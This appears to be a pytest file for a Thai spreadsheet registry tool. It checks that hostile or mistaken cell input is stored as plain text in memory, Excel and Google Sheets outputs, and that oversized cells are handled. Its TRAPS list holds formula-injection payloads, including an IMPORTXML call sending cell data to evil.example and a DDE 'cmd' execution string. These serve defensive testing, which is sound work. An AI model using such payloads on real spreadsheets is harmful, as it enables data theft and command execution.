"""What somebody types to do harm, or by mistake, in every column of every tab, ends as text in every store."""

import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from otopsheets.registry import TABS
from otopsheets.stores.base import Store
from otopsheets.stores.excel import ExcelStore
from otopsheets.stores.memory import MemoryStore
from otopsheets.workflow import Synced, sync
from tests.registries import Rows, as_sheets, save, sound
from tests.sheets_api.fixture import *  # noqa: F403
from tests.stores.contract import DAY
from tests.stores.google import as_person, input_of, store

TRAPS = [
    '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    '=HYPERLINK("https://evil.example","ดูผล")',
    "+66812345678",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\n=1+1",
    "\r=cmd|' /C calc'!A0",
    "＝1+1",
]


def hostile(trap: str) -> Rows:
    """A sound registry with one more row in every tab, in which every column holds the trap."""
    rows = {**sound(), "กติกา": [["รหัสกติกา", "ค่า"], ["layout.way", "จับสลาก"]]}
    for tab in TABS:
        if tab.title not in rows:
            rows[tab.title] = [[column.header for column in tab]]
        headers = rows[tab.title][0]
        rows[tab.title].append([trap] * len(headers))
        if tab.key == "groups":
            rows[tab.title].append(["G99", trap, "กลุ่มอาชีพ", trap, trap, trap, "นายาง", "สบปราบ", "ลำปาง"])
        if tab.key == "applications":
            rows[tab.title].append(["2560-09", trap, 1, "ไม่", "ไม่", "ไม่", "12 ส.ค. 2560", "ใช่"])
    return rows


def _synced(of: Store) -> Synced:
    done = sync(of, DAY, "2560-09")
    assert done.written is not None
    return done


def _texts(done: Synced) -> list[str]:
    return [
        cell.value for tab in done.proposal.tabs for row in tab.cells for cell in row if isinstance(cell.value, str)
    ]


@pytest.mark.parametrize("trap", TRAPS, ids=repr)
def test_in_memory_it_is_text(trap) -> None:
    done = _synced(MemoryStore(as_sheets(hostile(trap))))
    assert any(trap.strip()[1:] in text for text in _texts(done)), "the trap must be shown, or this shows nothing"


@pytest.mark.parametrize("trap", TRAPS, ids=repr)
def test_in_a_workbook_it_is_text_and_the_registry_is_not_touched(trap, tmp_path) -> None:
    registry = save(tmp_path / "registry.xlsx", hostile(trap))
    before = registry.read_bytes()
    _synced(ExcelStore(registry))
    assert registry.read_bytes() == before
    with zipfile.ZipFile(tmp_path / "registry.generated.xlsx") as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets
    assert not any(re.search(rb"<f[ >]", sheet) or b"<hyperlink" in sheet for sheet in sheets)


@pytest.mark.parametrize("trap", TRAPS, ids=repr)
def test_in_google_it_is_text_and_the_input_is_the_same_to_the_bit(trap, sheets_api) -> None:
    spreadsheet = _typed(sheets_api, hostile(trap))
    names = tuple(hostile(trap))
    before = input_of(sheets_api, spreadsheet, names)
    _synced(store(sheets_api, spreadsheet))
    generated = [sheet for sheet in sheets_api.book(spreadsheet).sheets if sheet.title not in names]
    kinds = {kind for sheet in generated for cell in sheet.cells.values() if cell.value for kind in cell.value}
    assert kinds == {"stringValue", "numberValue"}
    assert input_of(sheets_api, spreadsheet, names) == before
    assert sync(store(sheets_api, spreadsheet), DAY, "2560-09").changed == ()


def _typed(server, rows: Rows) -> str:
    """A spreadsheet into which all this was typed as text."""
    spreadsheet = server.create_spreadsheet("ทะเบียน", sheets={title: [] for title in rows})
    for sheet in server.book(spreadsheet).sheets:
        cells = [
            {
                "values": [
                    {"userEnteredValue": {("stringValue" if isinstance(v, str) else "numberValue"): v}} for v in row
                ]
            }
            for row in rows[sheet.title]
        ]
        width = max(len(row) for row in rows[sheet.title])
        grid = {"rowCount": max(len(cells), 100), "columnCount": max(width, 26)}
        properties = {"sheetId": sheet.id, "gridProperties": grid}
        start = {"sheetId": sheet.id, "rowIndex": 0, "columnIndex": 0}
        as_person(
            server,
            spreadsheet,
            {"updateSheetProperties": {"properties": properties, "fields": "gridProperties(rowCount,columnCount)"}},
            {"updateCells": {"start": start, "rows": cells, "fields": "userEnteredValue"}},
        )
    return spreadsheet


def _in_memory(_server, _folder: Path, rows: Rows) -> Store:
    return MemoryStore(as_sheets(rows))


def _in_excel(_server, folder: Path, rows: Rows) -> Store:
    return ExcelStore(save(folder / "registry.xlsx", rows))


def _in_google(server, _folder: Path, rows: Rows) -> Store:
    return store(server, _typed(server, rows))


STORES = [_in_memory, _in_excel, _in_google]


@pytest.mark.parametrize("opened", STORES)
@pytest.mark.parametrize(
    "wide",
    [
        lambda rows: rows["กลุ่ม"][1].__setitem__(1, "ก" * 32_000),
        lambda rows: rows["ใบสมัคร"][2].__setitem__(1, "ข" * 32_000),
        lambda rows: rows["กลุ่ม"][0].extend(f"คอลัมน์ {n}" for n in range(10_000)),
    ],
    ids=["a name that fills a cell", "an applicant that fills a cell", "10,000 columns"],
)
def test_what_is_far_too_large_is_read_and_the_result_written(sheets_api, tmp_path, opened: Callable, wide) -> None:
    rows = sound() | {"กติกา": [["รหัสกติกา", "ค่า"], ["layout.way", "จับสลาก"]]}
    wide(rows)
    done = _synced(opened(sheets_api, tmp_path, rows))
    assert len(done.proposal.selection.outcomes) == 4


def test_no_row_is_higher_than_excel_takes(tmp_path) -> None:
    rows = sound() | {"กติกา": [["รหัสกติกา", "ค่า"], ["layout.way", "จับสลาก"]]}
    rows["กลุ่ม"][1][1] = "ก" * 32_000
    _synced(_in_excel(None, tmp_path, rows))
    with zipfile.ZipFile(tmp_path / "registry.generated.xlsx") as archive:
        heights = [
            float(height)
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
            for height in re.findall(rb'<row [^>]*\bht="([\d.]+)"', archive.read(name))
        ]
    assert 400 < max(heights) <= 409.5


def test_a_cell_as_long_as_google_allows_is_read_whole(sheets_api) -> None:
    rows = sound() | {"กติกา": [["รหัสกติกา", "ค่า"], ["layout.way", "จับสลาก"]]}
    rows["กลุ่ม"][1][1] = "ก" * 50_000
    spreadsheet = _typed(sheets_api, rows)
    before = input_of(sheets_api, spreadsheet, tuple(rows))
    done = _synced(store(sheets_api, spreadsheet))
    assert len(done.proposal.registry.groups[0].name) == 50_000
    assert max(map(len, _texts(done))) <= 32_767
    assert input_of(sheets_api, spreadsheet, tuple(rows)) == before
    assert sync(store(sheets_api, spreadsheet), DAY).changed == ()
